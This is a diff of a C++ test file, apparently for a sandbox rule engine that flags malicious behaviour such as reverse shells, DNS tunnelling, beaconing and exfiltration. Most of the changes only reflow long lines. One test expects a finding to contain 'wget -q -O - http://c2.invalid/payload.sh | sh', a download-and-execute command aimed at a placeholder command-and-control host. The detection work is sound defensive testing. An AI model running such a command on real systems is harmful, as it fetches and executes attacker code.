@@ -33,7 +33,8 @@ const RuleSet& shipped_rules() {
 std::string describe(const Verdict& v) {
   std::ostringstream o;
   o << v.verdict << " " << v.score << "\n";
-  for (const auto& f : v.findings) o << "  " << f.rule << " [" << f.phase << "] " << f.summary << "\n";
+  for (const auto& f : v.findings)
+    o << "  " << f.rule << " [" << f.phase << "] " << f.summary << "\n";
   return o.str();
 }
 
@@ -48,16 +49,17 @@ TEST(ShippedRules, LoadAndCoverEveryMatcher) {
   ASSERT_GE(rules.rules().size(), 30u);
   std::set<MatchKind> kinds;
   for (const auto& r : rules.rules()) kinds.insert(r.match);
-  for (MatchKind k : {MatchKind::exec, MatchKind::file, MatchKind::write_then_exec, MatchKind::mass_delete,
-                      MatchKind::connect, MatchKind::dns, MatchKind::dns_tunnel, MatchKind::beacon,
-                      MatchKind::denied, MatchKind::honeytoken_read, MatchKind::exfil})
+  for (MatchKind k :
+       {MatchKind::exec, MatchKind::file, MatchKind::write_then_exec, MatchKind::mass_delete,
+        MatchKind::connect, MatchKind::dns, MatchKind::dns_tunnel, MatchKind::beacon,
+        MatchKind::denied, MatchKind::honeytoken_read, MatchKind::exfil})
     EXPECT_TRUE(kinds.contains(k)) << match_kind_name(k);
 }
 
 struct Expect {
   const char* report;
   const char* verdict;
-  const char* rule;   // must fire (empty: none required)
+  const char* rule;  // must fire (empty: none required)
   const char* phase;
 };
 
@@ -110,7 +112,8 @@ TEST(RecordedReport, FindingsCarryEvidenceChainsAndDestinations) {
   EXPECT_EQ(pipe->evidence, std::vector<uint64_t>{7848});
   ASSERT_EQ(pipe->process_chain.size(), 2u);
   EXPECT_EQ(pipe->process_chain[0], "/work/out/initrunner");
-  EXPECT_NE(pipe->summary.find("wget -q -O - http://c2.invalid/payload.sh | sh"), std::string::npos);
+  EXPECT_NE(pipe->summary.find("wget -q -O - http://c2.invalid/payload.sh | sh"),
+            std::string::npos);
   EXPECT_EQ(shl.findings.front().rule, "shell-downloader-pipe");  // strongest first
 
   Verdict rev = evaluate(shipped_rules(), load_report("revshell"), Honeytokens{}, ExfilScan{});
@@ -122,7 +125,8 @@ TEST(RecordedReport, FindingsCarryEvidenceChainsAndDestinations) {
   auto j = rev.findings_json();
   ASSERT_TRUE(j.is_array());
   for (const auto& f : j)
-    for (const char* key : {"rule", "severity", "phase", "summary", "evidence", "attack", "process_chain", "destination"})
+    for (const char* key : {"rule", "severity", "phase", "summary", "evidence", "attack",
+                            "process_chain", "destination"})
       EXPECT_TRUE(f.contains(key)) << key;
 }
 
